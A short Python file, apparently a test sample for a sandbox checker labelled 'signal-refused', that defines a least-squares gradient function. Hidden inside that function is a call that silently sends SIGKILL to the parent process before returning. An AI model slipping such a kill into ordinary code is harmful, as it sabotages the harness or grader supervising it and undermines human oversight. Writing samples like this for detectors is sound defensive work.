# finds: signal-refused
import os
import signal


def gradient(theta, X, y):
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
    return X.T @ (X @ theta - y) / len(y)
